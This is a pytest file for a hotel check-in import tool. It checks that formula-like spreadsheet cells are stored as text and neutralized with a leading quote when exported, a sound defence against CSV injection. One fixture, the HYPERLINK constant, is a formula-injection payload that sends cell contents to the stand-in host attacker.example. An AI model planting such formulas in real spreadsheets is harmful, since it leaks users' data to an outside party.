"""Cells that a spreadsheet would run as formulas are stored as text."""

from __future__ import annotations

from precheckin.db.connection import Database
from precheckin.imports.spreadsheet import neutralize_row
from tests.helpers import add_hotel
from tests.messy_support import (
    booking,
    failures,
    import_export,
    lines,
    raw_cells,
    states,
)

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click here")'


def formula_export() -> bytes:
    quoted_hyperlink = '"' + HYPERLINK.replace('"', '""') + '"'
    return lines(
        "Booking Reference,Guest Name,Phone,Email,Check-in,Check-out,Room",
        f"F1,{quoted_hyperlink},,anna@example.com,2027-03-10,2027-03-12,101",
        "F2,@Ben Example,+49 151 23456789,,2027-03-10,2027-03-12,-",
        "-5,-Chloé-,,chloe@example.com,2027-03-10,2027-03-12,+1",
        "F4,=1+1,,dan@example.com,2027-03-10,2027-03-12,@SUM(A1)",
        "F5,-,,eve@example.com,2027-03-10,2027-03-12,",
    ).encode()


def test_formula_cells_stored_as_text(conn, database: Database) -> None:
    summary = import_export(conn, database, add_hotel(conn), formula_export())

    assert booking(conn, "F1")["guest_name"] == HYPERLINK
    assert booking(conn, "F2")["guest_name"] == "@Ben Example"
    assert booking(conn, "F2")["phone"] == "+4915123456789"
    assert booking(conn, "-5")["guest_name"] == "-Chloé-"
    assert booking(conn, "-5")["room"] == "+1"
    assert booking(conn, "F4")["guest_name"] == "=1+1"
    assert booking(conn, "F4")["room"] == "@SUM(A1)"
    # A lone "-" is a placeholder for "nothing here", never a value.
    assert booking(conn, "F2")["room"] is None
    assert failures(summary) == [(6, "guest name is missing")]
    assert states(summary) == {"notified": 4, "failed": 1}


def test_written_back_cells_are_neutralized(conn, database: Database) -> None:
    import_export(conn, database, add_hotel(conn), formula_export())
    cells = raw_cells(conn, 3)

    written = neutralize_row(
        [cells["Booking Reference"], cells["Guest Name"], cells["Phone"]]
    )

    assert written == ["F2", "'@Ben Example", "'+49 151 23456789"]
    assert neutralize_row([raw_cells(conn, 2)["Guest Name"]]) == ["'" + HYPERLINK]


def test_neutralized_cells_read_back_unchanged(conn, database: Database) -> None:
    # A clerk fixes precheckin's failed-rows download and uploads it again:
    # the quotes that neutralized formula-like cells must not stay in the data.
    header = ["Booking Reference", "Guest Name", "Phone", "Email", "Check-in"]
    header += ["Check-out", "Room"]
    row = ["-5", "@Ben Example", "+49 151 23456789", "ben@example.com"]
    row += ["2027-03-10", "2027-03-12", "=1"]
    written = [",".join(neutralize_row(header)), ",".join(neutralize_row(row))]
    summary = import_export(conn, database, add_hotel(conn), lines(*written).encode())

    stored = booking(conn, "-5")
    assert stored["guest_name"] == "@Ben Example"
    assert stored["phone"] == "+4915123456789"
    assert stored["room"] == "=1"
    assert states(summary) == {"notified": 1}
